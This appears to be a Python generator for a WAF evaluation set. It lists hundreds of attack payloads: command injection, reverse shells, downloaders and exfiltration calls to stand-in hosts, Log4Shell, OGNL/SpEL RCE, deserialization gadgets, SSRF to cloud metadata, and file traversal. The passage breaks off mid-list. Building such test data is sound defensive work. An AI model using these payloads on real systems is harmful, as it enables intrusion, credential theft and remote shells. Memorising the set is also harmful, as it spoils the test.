"""Blind set "tenth": command injection (Unix, Windows, PowerShell), Java (Log4Shell-style lookups, OGNL, SpEL,
EL, reflection to Runtime / ProcessBuilder, deserialization markers, JSP), the "generic" families (Node.js code
injection, prototype pollution, SSRF to cloud metadata and internal hosts, Ruby / Python code injection), local and
remote file inclusion and server-side template injection; with benign requests that carry the same vocabulary
(sysadmins' chat about shell commands and Java stack traces, file names and paths, URLs with query strings,
template text in a newsletter editor, Windows / Unix words in prose, JSON configs, real user agents).

Authorship and independence: written for this repository by a helper that had not seen our WAF rules (lua/), the
WAF settings of gateway/gateway.yaml, the other generators' payload lists, the shared corpus or any ruleset's
files or regression tests, and that used no public payload list or search tool for payloads: every entry comes
from general knowledge of each technique (the shapes a pentester types by hand and a scanner sends) and of real
traffic. It was measured once, on the finished set, and no payload or text was changed after seeing what the WAF
blocks.

Each attack payload goes into three of the places of family_gen_blind_php (query, form, JSON, cookie, header),
rotating, under realistic parameter names of its family; some of them go again into other places (a URL path
segment, a parameter name, User-Agent, Referer, a multipart upload's filename or field, an XML body, a JSON
string written with \\u escapes), and prototype pollution goes into query keys and JSON keys. Same record schema as
family_gen.py; deterministic. Benign Slack messages and bios have ids tenth-chat-slack-NNNN / tenth-chat-bio-NNNN.
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places

# --- payload material computed rather than pasted (deterministic) ---------------------------------------------

# a Java serialization stream header (AC ED 00 05) followed by the start of a class descriptor, as seen in cookies
_JAVA_SER = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size"
             b"L\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons."
             b"beanutils.BeanComparator")
_JAVA_SER_B64 = base64.b64encode(_JAVA_SER).decode()
_JAVA_SER_GZ_B64 = base64.b64encode(gzip.compress(_JAVA_SER, mtime=0)).decode()
_PICKLE_B64 = base64.b64encode(b"cposix\nsystem\n(S'curl -s http://198.51.100.31/p|sh'\ntR.").decode()
_PS_ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')"
                           .encode("utf-16-le")).decode()

# --- command injection -------------------------------------------------------------------------------------------

RCE: list[tuple[str, str]] = [
    # separators, often appended to a value the form expects
    ("unix-separator", "127.0.0.1; id"),
    ("unix-separator", "8.8.8.8 && cat /etc/passwd"),
    ("unix-separator", "example.com | whoami"),
    ("unix-separator", "localhost || uname -a"),
    ("unix-separator", "10.0.0.1\nid"),
    ("unix-separator", "1.1.1.1%0Acat%20/etc/hosts"),
    ("unix-separator", ";ls -la /"),
    ("unix-separator", "& ping -c 10 127.0.0.1 &"),
    ("unix-separator", ";sleep 10;"),
    ("unix-separator", "| sleep 5 #"),
    ("unix-separator", "'; cat /etc/shadow; echo '"),
    ("unix-separator", "\"; id; \""),
    ("unix-separator", "report.pdf; rm -rf /tmp/*"),
    ("unix-separator", "google.com;/bin/ls -al /var/www"),
    ("unix-separator", "127.0.0.1\n/usr/bin/id\n"),
    ("unix-separator", "; ifconfig -a"),
    ("unix-separator", "&& cat /proc/self/environ"),
    ("unix-separator", "| tac /etc/passwd"),
    ("unix-separator", "; head -n 5 /etc/passwd"),
    ("unix-separator", "; find / -perm -4000 -type f 2>/dev/null"),
    ("unix-separator", "; ps aux"),
    ("unix-separator", "|netstat -antp"),
    ("unix-separator", "; chmod +x /tmp/a; /tmp/a"),
    ("unix-separator", "; python -c 'import os;os.system(\"id\")'"),
    ("unix-separator", "; perl -e 'system(\"id\")'"),
    ("unix-separator", "; php -r 'system(\"uname -a\");'"),
    ("unix-separator", "; echo PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs= | base64 -d > /var/www/html/s.php"),
    ("unix-separator", "x%3Bid"),
    ("unix-separator", "%26%26 whoami"),
    ("unix-separator", "jane.doe@example.com; cat /etc/passwd #"),
    ("unix-separator", "80;/usr/bin/env"),
    ("unix-separator", "; nslookup oob.example.net"),
    ("unix-separator", "\tid\t"),
    ("unix-separator", "; crontab -l"),
    ("unix-separator", "|| cat /root/.bash_history"),
    # command substitution
    ("unix-substitution", "`id`"),
    ("unix-substitution", "$(whoami)"),
    ("unix-substitution", "$(cat /etc/passwd)"),
    ("unix-substitution", "x$(sleep 7)"),
    ("unix-substitution", "`sleep 5`"),
    ("unix-substitution", "test@example.com`uname -a`"),
    ("unix-substitution", "$(echo aWQ= | base64 -d | sh)"),
    ("unix-substitution", "$(id>/tmp/o)"),
    ("unix-substitution", "; nslookup $(whoami).oob.example.net"),
    ("unix-substitution", "| dig +short `hostname`.attacker.example"),
    ("unix-substitution", "; curl -s http://198.51.100.7/$(hostname)"),
    ("unix-substitution", "invoice-$(uname -n).pdf"),
    ("unix-substitution", "<(id)"),
    ("unix-substitution", "$( ping -c 3 oob.example.net )"),
    ("unix-substitution", "${IFS}$(id)"),
    # evasion: quoting, escaping, variables, globbing, encodings
    ("unix-evasion", "c'a't /e't'c/pa's'swd"),
    ("unix-evasion", ";c\"a\"t /etc/pas\"s\"wd"),
    ("unix-evasion", r";ca\t /et\c/pa\sswd"),
    ("unix-evasion", ";/???/??t /???/p??s??"),
    ("unix-evasion", "|/bin/c?t /etc/pa*wd"),
    ("unix-evasion", ";cat$IFS/etc/passwd"),
    ("unix-evasion", "127.0.0.1;cat${IFS}/etc/shadow"),
    ("unix-evasion", ";{cat,/etc/passwd}"),
    ("unix-evasion", ";a=c;b=at;$a$b /etc/passwd"),
    ("unix-evasion", r";$'\x63\x61\x74' /etc/passwd"),
    ("unix-evasion", ";w$@hoami"),
    ("unix-evasion", "&&who$()ami"),
    ("unix-evasion", ";wh``oami"),
    ("unix-evasion", ";/u?r/b?n/w?o?m?"),
    ("unix-evasion", r"$(printf '\151\144')"),
    ("unix-evasion", "`echo${IFS}d2hvYW1p|base64${IFS}-d`"),
    ("unix-evasion", ";echo${IFS}aWQ=|base64${IFS}-d|bash"),
    ("unix-evasion", r";X=$'uname\x20-a'&&$X"),
    ("unix-evasion", "$(rev<<<'imaohw')"),
    ("unix-evasion", ";cat</etc/passwd"),
    ("unix-evasion", r"; c\at /et\c/sha\dow"),
    ("unix-evasion", ";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("unix-evasion", ";tr 'A-Z' 'a-z' <<< 'WHOAMI' | sh"),
    ("unix-evasion", ";i$@d"),
    ("unix-evasion", ";/bin/ba?h -c id"),
    ("unix-evasion", "x;bash<<<'id'"),
    ("unix-evasion", ";$(echo 'Y2F0IC9ldGMvcGFzc3dk' | base64 --decode)"),
    ("unix-evasion", ";xxd -r -p <<< 6964 | sh"),
    ("unix-evasion", "%0a%63%61%74%20%2f%65%74%63%2f%70%61%73%73%77%64"),
    ("unix-evasion", ";$0 -c 'id'"),
    ("unix-evasion", ";\t/bin/sh\t-c\tid"),
    ("unix-evasion", ";/bin/s''h -c \"u\\name -a\""),
    # reverse shells
    ("reverse-shell", "bash -i >& /dev/tcp/10.10.14.7/4444 0>&1"),
    ("reverse-shell", "; bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"),
    ("reverse-shell", "0<&196;exec 196<>/dev/tcp/198.51.100.2/9001; sh <&196 >&196 2>&196"),
    ("reverse-shell", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"),
    ("reverse-shell", "| nc -e /bin/bash 192.0.2.10 1337"),
    ("reverse-shell", "; ncat 10.1.1.1 4444 -e /bin/sh"),
    ("reverse-shell", "; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.9\",4444));"
                      "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("reverse-shell", "; perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,"
                      "getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");"
                      "exec(\"/bin/sh -i\");'"),
    ("reverse-shell", "; socat tcp-connect:203.0.113.50:4444 exec:/bin/sh,pty,stderr"),
    ("reverse-shell", "; telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445"),
    ("reverse-shell", "; php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("reverse-shell", "; ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;"
                      "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
    ("reverse-shell", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"),
    ("reverse-shell", "$(busybox nc 10.0.0.3 9999 -e sh)"),
    ("reverse-shell", "; mknod /tmp/p p && /bin/sh 0</tmp/p | nc 198.51.100.40 8080 1>/tmp/p"),
    ("reverse-shell", "|exec 5<>/dev/tcp/192.0.2.77/80;cat <&5 | while read l; do $l 2>&5 >&5; done"),
    # downloaders and exfiltration
    ("downloader", "; curl -o /tmp/x http://198.51.100.23/x && chmod 755 /tmp/x && /tmp/x"),
    ("downloader", "| wget http://evil.example.net/bot.sh -O- | sh"),
    ("downloader", "; curl -fsSL https://paste.example.com/raw/abc | bash"),
    ("downloader", "`curl 203.0.113.4:8000/a.sh|sh`"),
    ("downloader", "; tftp -g -r m.sh 10.0.0.7; sh m.sh"),
    ("downloader", "$(wget -q -O /tmp/.k http://192.0.2.44/k)"),
    ("downloader", "; cd /tmp; wget http://198.51.100.8/mips; chmod 777 mips; ./mips"),
    ("downloader", "; curl -d @/etc/passwd http://collector.example.org/"),
    ("downloader", "; curl --data-binary @/root/.ssh/id_rsa https://exfil.example/up"),
    ("downloader", "; lwp-download http://198.51.100.1/a /tmp/a"),
    ("downloader", "; fetch -o /tmp/p http://203.0.113.2/p"),
    ("downloader", "a && curl http://attacker.example/x | sh"),
    ("downloader", ";wget${IFS}http://198.51.100.9/s${IFS}-O${IFS}/tmp/s;sh${IFS}/tmp/s"),
    ("downloader", "; python3 -c \"import urllib.request as u;exec(u.urlopen('http://10.9.9.9/p.py').read())\""),
    # Windows cmd
    ("windows-cmd", "127.0.0.1 & whoami"),
    ("windows-cmd", r"127.0.0.1 && type C:\Windows\win.ini"),
    ("windows-cmd", "| dir C:\\"),
    ("windows-cmd", "& net user"),
    ("windows-cmd", "& net user hacker P@ssw0rd! /add"),
    ("windows-cmd", "&& net localgroup administrators hacker /add"),
    ("windows-cmd", "| ipconfig /all"),
    ("windows-cmd", "& systeminfo"),
    ("windows-cmd", "& tasklist /v"),
    ("windows-cmd", "& cmd.exe /c whoami"),
    ("windows-cmd", "& cmd /c \"echo %USERNAME%\""),
    ("windows-cmd", r"| type %SYSTEMROOT%\win.ini"),
    ("windows-cmd", "& w^h^o^a^m^i"),
    ("windows-cmd", "& c^md /c di^r"),
    ("windows-cmd", "& %ComSpec% /c ver"),
    ("windows-cmd", "& ping -n 21 127.0.0.1"),
    ("windows-cmd", r"& certutil -urlcache -split -f http://198.51.100.3/p.exe C:\Users\Public\p.exe"),
    ("windows-cmd", r"& bitsadmin /transfer j /download /priority high http://203.0.113.6/a.exe %TEMP%\a.exe"),
    ("windows-cmd", "& mshta http://203.0.113.9/a.hta"),
    ("windows-cmd", "& regsvr32 /s /n /u /i:http://198.51.100.5/f.sct scrobj.dll"),
    ("windows-cmd", "& wmic process call create \"calc.exe\""),
    ("windows-cmd", r"& reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"),
    ("windows-cmd", r"& schtasks /create /sc minute /tn upd /tr C:\Users\Public\u.exe"),
    ("windows-cmd", "& FOR /F %i IN ('whoami') DO nslookup %i.oob.example.net"),
    ("windows-cmd", r"& copy \\10.0.0.4\share\nc.exe %TEMP%\nc.exe"),
    ("windows-cmd", "| findstr /si password *.config"),
    ("windows-cmd", "& vssadmin delete shadows /all /quiet"),
    ("windows-cmd", "& WHOAMI /PRIV"),
    ("windows-cmd", r"& c:\windows\system32\cmd.exe /k ver"),
    ("windows-cmd", "& \"who\"ami"),
    ("windows-cmd", "& set x=who&& set y=ami&& call %x%%y%"),
    ("windows-cmd", "%0a dir c:\\inetpub"),
    ("windows-cmd", "| NeT uSeR /domain"),
    ("windows-cmd", "& rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full"),
    # PowerShell
    ("powershell", "; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient)"
                   ".DownloadString('http://203.0.113.10/a.ps1')\""),
    ("powershell", "& powershell.exe -EncodedCommand " + _PS_ENC),
    ("powershell", "| pwsh -c Get-Process"),
    ("powershell", r"& powershell Invoke-WebRequest -Uri http://198.51.100.9/x.exe -OutFile $env:TEMP\x.exe"),
    ("powershell", "& powershell -ep bypass -c \"iwr http://10.0.0.5/r.ps1 | iex\""),
    ("powershell", r"& PoWeRsHeLl -NoP -NonI -W Hidden -Exec Bypass -Command Get-ChildItem C:\ "),
    ("powershell", "; powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);"
                   "$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0)"
                   "{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);"
                   "$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}\""),
    ("powershell", "& powershell Start-Process calc.exe"),
    ("powershell", "& powershell -c \"Get-Content C:\\Windows\\win.ini\""),
    ("powershell", "& powershell \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))|iex\""),
    ("powershell", "& p^owershell -c whoami"),
    ("powershell", "& powershell -c \"Invoke-Expression (irm https://paste.example.com/p)\""),
    ("powershell", "& powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("powershell", "& powershell -c \"Add-MpPreference -ExclusionPath C:\\\""),
    ("powershell", "| powershell -w 1 -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.5/a','a.exe')"
                   ";Start-Process a.exe\""),
    ("powershell", "& powershell -c \"Get-WmiObject Win32_UserAccount | Select Name\""),
]

# --- Java --------------------------------------------------------------------------------------------------------

JAVA: list[tuple[str, str]] = [
    # Log4Shell-style lookups, plain, nested, obfuscated, exfiltrating
    ("log4shell", "${jndi:ldap://198.51.100.7:1389/a}"),
    ("log4shell", "${jndi:rmi://attacker.example.com:1099/Exploit}"),
    ("log4shell", "${jndi:dns://x.oob.example.net/a}"),
    ("log4shell", "${jndi:ldaps://evil.example/o}"),
    ("log4shell", "${jndi:iiop://10.0.0.2/x}"),
    ("log4shell", "${jndi:corba://10.0.0.2:1050/x}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://203.0.113.1/x}"),
    ("log4shell", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.9/z}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.2/a}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldap://x.example/k}"),
    ("log4shell", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/d}"),
    ("log4shell", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.example.net/a}"),
    ("log4shell", "${jndi:dns://${sys:java.version}.dnslog.example/x}"),
    ("log4shell", "${env:AWS_ACCESS_KEY_ID}"),
    ("log4shell", "${jndi:ldap://127.0.0.1#evil.example:1389/a}"),
    ("log4shell", "${${lower:${lower:jndi}}:${lower:rmi}://10.0.0.4/poc}"),
    ("log4shell", "${jNdI:LdAp://203.0.113.77/o}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D"),
    ("log4shell", "Mozilla/5.0 ${jndi:ldap://x.example/ua}"),
    ("log4shell", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/lp}"),
    ("log4shell", "${${sys:nope:-j}${sys:nope:-n}di:ldap://198.51.100.3/q}"),
    ("log4shell", "&#36;{jndi:ldap://203.0.113.8/h}"),
    ("log4shell", "${sys:user.home}"),
    ("log4shell", "${ jndi : ldap://198.51.100.5/s }"),
    # OGNL (Struts)
    ("ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)."
             "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"),
    ("ognl", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).redirectErrorStream(true)"
             ".start()}"),
    ("ognl", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}"),
    ("ognl", "%{@java.lang.Runtime@getRuntime().exec('touch /tmp/pwn')}"),
    ("ognl", "(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)"
             "(#_memberAccess[\"allowStaticMethodAccess\"]=true)"),
    ("ognl", "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}"),
    ("ognl", "%{#_memberAccess.allowStaticMethodAccess=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("ognl", "%{1337*2}"),
    ("ognl", "${@java.lang.System@getProperty('user.dir')}"),
    ("ognl", "%{#application['org.apache.tomcat.InstanceManager']}"),
    ("ognl", "%25%7B%28%23rt%3D%40java.lang.Runtime%40getRuntime%28%29%29.%28%23rt.exec%28%27id%27%29%29%7D"),
    # SpEL
    ("spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('nslookup x.oob.example.net')}"),
    ("spel", "${T(java.lang.System).getenv()}"),
    ("spel", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
             ".getInputStream())}"),
    ("spel", "new java.lang.ProcessBuilder({'bash','-c','id'}).start()"),
    ("spel", "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')"
             ".getInputStream()).next()}"),
    ("spel", "T(java.lang.Class).forName('java.lang.Runtime')"),
    ("spel", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/spring\")"),
    ("spel", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i"),
    ("spel", "class.module.classLoader.URLs[0]=0"),
    ("spel", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("spel", "T(java.lang.Thread).sleep(10000)"),
    ("spel", "T (java.lang.Runtime) .getRuntime() .exec('id')"),
    # Jakarta / JSF EL
    ("el", "${pageContext.request.getSession().getServletContext()}"),
    ("el", "${applicationScope}"),
    ("el", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null).exec(\"id\")}"),
    ("el", "#{facesContext.externalContext.redirect('http://x.example')}"),
    ("el", "${request.getClass().getClassLoader()}"),
    ("el", "${7*191}"),
    ("el", "#{7*191}"),
    ("el", "${header['User-Agent']}"),
    ("el", "${pageContext.servletContext.getRealPath('/')}"),
    # reaching Runtime / ProcessBuilder by class name and reflection
    ("java-class", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("java-class", "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})"),
    ("java-class", "new ProcessBuilder(\"cmd.exe\",\"/c\",\"dir\").start()"),
    ("java-class", "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\", String.class)"),
    ("java-class", "new javax.script.ScriptEngineManager().getEngineByName(\"js\")"
                   ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")"),
    ("java-class", "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL(\"http://x.example/e.jar\")})"),
    ("java-class", "java.lang.reflect.Method.invoke"),
    ("java-class", "sun.misc.Unsafe.getUnsafe()"),
    ("java-class", "\"id\".execute().text"),
    ("java-class", "java.lang.System.exit(0)"),
    ("java-class", "org.springframework.context.support.ClassPathXmlApplicationContext"),
    # deserialization markers and gadget class names
    ("deserialization", _JAVA_SER_B64),
    ("deserialization", _JAVA_SER_GZ_B64),
    ("deserialization", _JAVA_SER[:16].hex()),
    ("deserialization", "org.apache.commons.collections.functors.InvokerTransformer"),
    ("deserialization", "org.apache.commons.collections4.functors.ChainedTransformer"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":"
                        "\"ldap://198.51.100.4:1389/Exploit\",\"autoCommit\":true}"),
    ("deserialization", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":"
                        "\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'\"}]"),
    ("deserialization", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
                        "length=\"1\"><void index=\"0\"><string>id</string></void></array>"
                        "<void method=\"start\"/></object></java>"),
    ("deserialization", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
                        "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
                        "<string>id</string></command></target><action>start</action></handler>"
                        "</dynamic-proxy></sorted-set>"),
    ("deserialization", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                        "[\"http://x.example/y.jar\"]]]]"),
    ("deserialization", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
    ("deserialization", "javax.management.BadAttributeValueExpException"),
    # JSP and scriptlets
    ("jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    ("jsp", "<%@ page import=\"java.io.*,java.util.*\" %>"),
    ("jsp", "<%= System.getProperty(\"user.name\") %>"),
    ("jsp", "<jsp:scriptlet>Runtime.getRuntime().exec(\"id\");</jsp:scriptlet>"),
    ("jsp", "<%! public void jspInit(){ } %>"),
    ("jsp", "<c:import url=\"file:///etc/passwd\"/>"),
    ("jsp", "<jsp:include page=\"/WEB-INF/web.xml\"/>"),
    ("jsp", "<%out.println(new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream())"
            ".useDelimiter(\"\\\\A\").next());%>"),
]

# --- generic: Node.js, prototype pollution (as values), SSRF, Ruby, Python ----------------------------------------

GENERIC: list[tuple[str, str]] = [
    ("nodejs", "require('child_process').exec('id')"),
    ("nodejs", "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()"),
    ("nodejs", "process.mainModule.require('child_process').spawnSync('ls')"),
    ("nodejs", "global.process.mainModule.constructor._load('child_process').exec('id')"),
    ("nodejs", "this.constructor.constructor('return process')().mainModule.require('child_process')"
               ".execSync('id')"),
    ("nodejs", "';return require('fs').readFileSync('/etc/passwd','utf8');//"),
    ("nodejs", "res.end(require('fs').readdirSync('.').toString())"),
    ("nodejs", "process.kill(process.pid)"),
    ("nodejs", "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))"),
    ("nodejs", "setTimeout(function(){require('child_process').exec('sleep 5')},0)"),
    ("nodejs", "new Function('return this.process')().env"),
    ("nodejs", "{\"$where\": \"sleep(5000) || true\"}"),
    ("nodejs", "require('http').get('http://x.example/?'+process.env.DB_PASSWORD)"),
    ("nodejs", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("nodejs", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('ls /')}()\"}"),
    ("nodejs", "vm.runInNewContext('this.constructor.constructor(\"return process\")()')"),
    ("nodejs", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id']})"),
    ("nodejs", "import('child_process').then(m=>m.execSync('id'))"),
    ("nodejs", "'+require('os').hostname()+'"),
    ("nodejs", "x' ; require('child_process').exec('nc 10.0.0.1 4444 -e sh') ; '"),
    ("nodejs", "1;while(true){}"),
    ("nodejs", "[].constructor.constructor('return process.env')()"),
    ("pollution", "__proto__[isAdmin]=true"),
    ("pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("pollution", "constructor[prototype][role]=admin"),
    # SSRF: cloud metadata in many spellings, internal services, odd schemes
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://169.254.169.254/latest/user-data"),
    ("ssrf", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "http://metadata/computeMetadata/v1/?recursive=true"),
    ("ssrf", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "http://169.254.170.2/v2/credentials/"),
    ("ssrf", "http://2852039166/latest/meta-data/"),
    ("ssrf", "http://0xa9fea9fe/latest/"),
    ("ssrf", "http://0251.0376.0251.0376/"),
    ("ssrf", "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/hostname"),
    ("ssrf", "http://169.254.43518/"),
    ("ssrf", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ssrf", "http://[::ffff:a9fe:a9fe]/"),
    ("ssrf", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("ssrf", "http://user@169.254.169.254/latest/"),
    ("ssrf", "https://example.com@169.254.169.254/"),
    ("ssrf", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("ssrf", "dict://127.0.0.1:11211/stat"),
    ("ssrf", "http://localhost:8500/v1/agent/self"),
    ("ssrf", "http://127.1/admin"),
    ("ssrf", "http://0/"),
    ("ssrf", "http://0.0.0.0:9200/_cat/indices"),
    ("ssrf", "http://[::]:22/"),
    ("ssrf", "http://[0:0:0:0:0:ffff:127.0.0.1]/server-status"),
    ("ssrf", "http://10.0.0.1:2375/containers/json"),
    ("ssrf", "http://192.168.1.1/cgi-bin/luci"),
    ("ssrf", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("ssrf", "https://172.16.0.10:10250/pods"),
    ("ssrf", "file:///proc/self/environ"),
    ("ssrf", "http://LOCALHOST:8080/actuator/env"),
    ("ssrf", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("ssrf", "http://instance-data/latest/meta-data/"),
    ("ssrf", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("ssrf", "http://169.254.169.254/metadata/v1/"),
    ("ssrf", "http://[fe80::1%25eth0]:8080/"),
    ("ssrf", "http:%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("ssrf", "hTtP://169.254.169.254/LATEST/meta-data"),
    ("ssrf", "http://127.0.0.1:8080/manager/html"),
    ("ssrf", "http://internal-api.svc.cluster.local/admin/users"),
    ("ssrf", "jar:http://127.0.0.1:8000/x.jar!/"),
    ("ssrf", "ldap://127.0.0.1:389/dc=internal"),
    ("ssrf", "http://127.0.0.1:80\\@example.com/"),
    # Ruby
    ("ruby", "#{`id`}"),
    ("ruby", "Kernel.exec('id')"),
    ("ruby", "eval(\"`cat /etc/passwd`\")"),
    ("ruby", "IO.popen('id').read"),
    ("ruby", "%x(whoami)"),
    ("ruby", "Open3.capture2('id')"),
    ("ruby", "open('|cat /etc/passwd').read"),
    ("ruby", "--- !ruby/object:Gem::Installer\ni: x\n"),
    ("ruby", "instance_eval('`id`')"),
    ("ruby", "send(:system, 'id')"),
    ("ruby", "File.read('/etc/passwd')"),
    ("ruby", "Marshal.load(Base64.decode64('BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50cw=='))"),
    ("ruby", "\"+`curl 198.51.100.30|sh`+\""),
    # Python
    ("python", "__import__('os').system('id')"),
    ("python", "__import__('subprocess').check_output(['id'])"),
    ("python", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("python", "exec(\"import os; os.popen('id').read()\")"),
    ("python", "().__class__.__bases__[0].__subclasses__()"),
    ("python", "[].__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()"),
    ("python", "open('/etc/passwd').read()"),
    ("python", "getattr(__builtins__,'__import__')('os').popen('id').read()"),
    ("python", "cos\nsystem\n(S'id'\ntR."),
    ("python", _PICKLE_B64),
    ("python", "!!python/object/apply:os.system ['id']"),
    ("python", "__import__('time').sleep(5)"),
    ("python", "globals()['__builtins__']['eval']('1+1')"),
]

# --- local file inclusion ----------------------------------------------------------------------------------------

LFI: list[tuple[str, str]] = [
    ("traversal", "../../../../etc/passwd"),
    ("traversal", r"..\..\..\..\windows\win.ini"),
    ("traversal", "....//....//....//etc/passwd"),
    ("traversal", r"....\\....\\windows\\system32\\drivers\\etc\\hosts"),
    ("traversal", "..//..//..//..//etc/hosts"),
    ("traversal", "..;/..;/..;/etc/passwd"),
    ("traversal", "/var/www/html/../../../etc/group"),
    ("traversal", "invoice.pdf/../../../../etc/passwd"),
    ("traversal", "reports/2024/../../../../../etc/shadow"),
    ("traversal", "../../../../etc/nginx/nginx.conf"),
    ("traversal", "../../../../../../WEB-INF/web.xml"),
    ("traversal", "../../.env"),
    ("traversal", "../.git/config"),
    ("traversal", "../../../../home/ubuntu/.aws/credentials"),
    ("traversal", "/./././././etc/./passwd"),
    ("encoded-traversal", "..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded-traversal", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("encoded-traversal", "..%252f..%252f..%252fetc%252fpasswd"),
